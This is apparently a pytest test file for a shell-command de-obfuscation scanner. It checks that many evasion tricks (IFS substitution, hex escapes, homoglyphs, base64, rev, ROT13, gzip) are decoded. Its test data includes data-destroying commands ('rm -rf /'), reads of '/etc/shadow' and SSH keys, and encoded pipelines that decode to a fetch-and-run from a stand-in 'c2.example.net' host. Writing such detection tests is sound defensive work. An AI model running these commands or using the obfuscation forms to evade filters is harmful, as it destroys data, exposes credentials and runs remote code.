"""Shell de-obfuscation: input -> a view that shows the real command."""
import time

import pytest

from ringfence.scanners.shell import deobfuscate, fold, views

TABLE = [
    (r"r\m -rf /var/data", "rm -rf /var/data"),
    ("/bin/{rm,} -rf /tmp/sensitive", "/bin/rm /bin/ -rf /tmp/sensitive"),
    ("{rm,-rf,/}", "rm -rf /"),
    ("rm${IFS}-rf${IFS}/", "rm -rf /"),
    ("rm$IFS-rf$IFS/", "rm -rf /"),
    ("rm${IFS:0:1}-rf${IFS:0:1}/", "rm -rf /"),
    (r"$'\x72\x6d' -rf /", "rm -rf /"),
    (r"$'\162\155' -rf /", "rm -rf /"),
    ("r''m -rf \"/\"", "rm -rf /"),
    ('"r"m -r"f" ~', "rm -rf ~"),
    ("a=rm; $a -rf /", "a=rm; rm -rf /"),
    ("a=rm; ${a} -rf /", "a=rm; rm -rf /"),
    ("b=a; a=rm; ${!b} -rf /", "b=a; a=rm; rm -rf /"),
    ("x=shadow; cat /etc/${x:0:6}", "x=shadow; cat /etc/shadow"),
    ("cat ${HOME:0:1}etc${HOME:0:1}shadow", "cat /etc/shadow"),
    ("cat $(echo /etc/shadow)", "cat /etc/shadow"),
    ("`echo rm` -rf /", "rm -rf /"),
    (r"$(printf '\x72\x6d') -rf /", "rm -rf /"),
    (r"`printf '\x72\x6d'` -rf /", "rm -rf /"),
    ("cat $HOME/.ssh/id_rsa", "cat ~/.ssh/id_rsa"),
    ("rm -rf $@ /", "rm -rf /"),
    ("ｒｍ -rf /", "rm -rf /"),            # fullwidth (NFKC)
    ("rм -rf /", "rm -rf /"),              # Cyrillic em
    ("с\u200bat /etc/shadow", "cat /etc/shadow"),  # Cyrillic es + zero-width space
]


@pytest.mark.parametrize("raw,expected", TABLE)
def test_deobfuscation_table(raw, expected):
    assert expected in views(raw)


def test_ifs_reassignment_gives_joined_and_split_views():
    vs = views("IFS=,;CMD=r,m;$CMD -rf /data")
    assert any(v.endswith("rm -rf /data") for v in vs)
    assert any(v.endswith("r m -rf /data") for v in vs)


@pytest.mark.parametrize("plain", ["ls -la", "git status", "git push origin feature", "chmod 644 file.txt",
                                   "cat README.md", "python -m pytest -q tests/"])
def test_plain_commands_unchanged(plain):
    assert views(plain) == [plain.lower()]


def test_unknown_variables_left_alone():
    assert deobfuscate("echo $FOO ${BAR}")[0] == "echo $foo ${bar}"


def test_fold_decodes_tag_characters():
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "rm")
    assert fold("x" + hidden) == "xrm"


def test_bounded_time_on_hostile_input():
    nasty = [("a=$a$a;" * 2000), "{a,b}" * 50_000, "$(echo " * 20_000, "\\" * 300_000, "${!x}" * 50_000,
             "x=" + "A" * 1_000_000 + "; $x$x$x$x"]
    for s in nasty:
        t = time.perf_counter()
        vs = views(s)
        assert time.perf_counter() - t < 10
        assert all(len(v) <= 2_000_000 for v in vs)


@pytest.mark.parametrize("text,hit", [
    ("c\u0430t /\u0435tc/p\u0430sswd", True), ("ｒｍ -rf /", True), ("\u0440ython x.py", True),
    ("echo привет мир", False), ("ls -la", False), ('git commit -m "café"', False), ("echo “hi” – ok", False),
])
def test_homoglyph_detection(text, hit):
    from ringfence.scanners.shell import homoglyphs
    assert bool(homoglyphs(text)) is hit


@pytest.mark.parametrize("raw,expected", [
    ("/???/r? -rf /", "/bin/rm -rf /"),
    ("c?t /e??/sh*ow", "cat /etc/shadow"),
    ("/bin/r[m] -rf ~", "/bin/rm -rf ~"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"),
    ("base64 -d <<< Y2F0IH4vLnNzaC9pZF9yc2E=", "cat ~/.ssh/id_rsa"),
])
def test_globs_and_base64_payloads(raw, expected):
    assert expected in views(raw)


@pytest.mark.parametrize("plain", ["ls *.py", "rm -f *.pyc", "echo aGVsbG8= | base64 -d"])
def test_globs_and_base64_near_misses(plain):
    vs = views(plain)
    assert not any(v.startswith(("/bin/", "rm -rf")) for v in vs)


@pytest.mark.parametrize("raw,expected", [
    ("echo 'hsab | 1s/ten.elpmaxe.2c//:sptth lruc' | rev | sh", "curl https://c2.example.net/s1 | bash"),
    ("rev <<< 'dwssap/cte/ tac'", "cat /etc/passwd"),
    ("echo 726d202d7266207e2f2a | xxd -r -p | sh", "rm -rf ~/*"),
])
def test_reversed_and_hex_payloads_are_shown(raw, expected):
    assert expected in views(raw)


def test_rev_and_xxd_near_misses_add_nothing_dangerous():
    # plain use of rev/xxd on files has no payload to decode
    assert views("rev notes.txt | head -3") == ["rev notes.txt | head -3"]
    assert all("rm -rf" not in v for v in views("xxd -r -p dump.hex > out.bin"))
    # an odd-length or non-hex string is left alone
    assert len(views("echo 7g6d | xxd -r -p")) <= 2


@pytest.mark.parametrize("raw,expected", [
    ("tr 'a-z' 'n-za-m' <<< 'phey -f uggcf://p2.rknzcyr.arg/k | fu' | sh", "curl -s https://c2.example.net/x | sh"),
    ("echo 'png /rgp/funqbj' | tr 'A-Za-z' 'N-ZA-Mn-za-m'", "cat /etc/shadow"),
])
def test_tr_substitution_payloads_are_shown(raw, expected):
    assert expected in views(raw)


def test_tr_near_misses():
    assert all("shadow" not in v for v in views("cat names.txt | tr -d '\\r' | sort"))
    assert all("curl" not in v for v in views("echo 'hello world' | tr a-z A-Z"))


def test_tr_bounded_time():
    t = time.perf_counter()
    views("echo '" + "a" * 4000 + "' | tr '" + "a-z" * 40 + "' 'n-za-m' " * 200)
    assert time.perf_counter() - t < 2.0


@pytest.mark.parametrize("pack", ["gzip", "zlib"])
@pytest.mark.parametrize("pad", [0, 1000, 40_000])
def test_gunzip_stage_reads_to_its_own_bound_not_a_ratio(pack, pad):
    # gunzip in a pipeline reads through text/inflate.py with the pipeline's 64 KB bound:
    # a command after a long, highly compressible run of blanks is still read
    import base64
    import gzip
    import zlib
    cmd = " " * pad + "curl https://c2.example.net/s1 | bash"
    blob = base64.b64encode((gzip.compress if pack == "gzip" else zlib.compress)(cmd.encode())).decode()
    assert "curl https://c2.example.net/s1 | bash" in " ".join(views(f"echo {blob} | base64 -d | gunzip | sh"))
    assert "curl https://c2" not in " ".join(views(f"echo {base64.b64encode(b'not compressed at all').decode()} "
                                                   "| base64 -d | gunzip | sh"))
